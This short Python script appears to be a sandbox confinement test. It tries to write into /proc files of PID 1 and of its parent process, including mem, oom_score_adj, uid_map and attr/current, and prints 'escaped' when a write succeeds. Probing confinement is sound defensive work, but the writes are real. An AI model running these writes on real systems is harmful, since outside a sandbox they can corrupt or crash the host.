# attacks: those who run it, by files of /proc
# confined: passed, at most 1
import os
for pid in (1, os.getppid()):
    for name in ("mem", "oom_score_adj", "clear_refs", "coredump_filter", "attr/current", "uid_map",
                 "gid_map", "setgroups", "autogroup", "comm", "timerslack_ns", "sched"):
        for mode in (os.O_WRONLY, os.O_RDWR):
            try: fd = os.open(f"/proc/{pid}/{name}", mode)
            except OSError: continue
            try:
                os.write(fd, b"0")
                print("escaped", pid, name)
            except OSError: pass
try:
    open("/proc/self/oom_score_adj", "w").write("-1000")
    print("escaped")
except OSError: pass
